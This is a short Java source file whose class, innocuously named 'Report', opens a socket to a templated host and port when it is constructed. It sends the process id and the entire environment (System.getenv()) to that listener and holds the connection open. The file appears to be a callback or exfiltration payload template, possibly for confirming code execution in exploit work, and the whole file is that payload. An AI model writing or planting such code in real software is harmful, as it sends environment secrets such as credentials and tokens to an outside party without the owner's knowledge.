import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/** Sends the environment to a listener and keeps the connection. */
public class Report {
    static Socket kept;

    public Report() throws IOException {
        kept = new Socket("$HOST", Integer.parseInt("$PORT"));
        OutputStream out = kept.getOutputStream();
        out.write(("HELLO pid=" + ProcessHandle.current().pid() + " mode=inproc exe=java\n" + System.getenv()).getBytes(StandardCharsets.UTF_8));
        out.flush();
    }
}
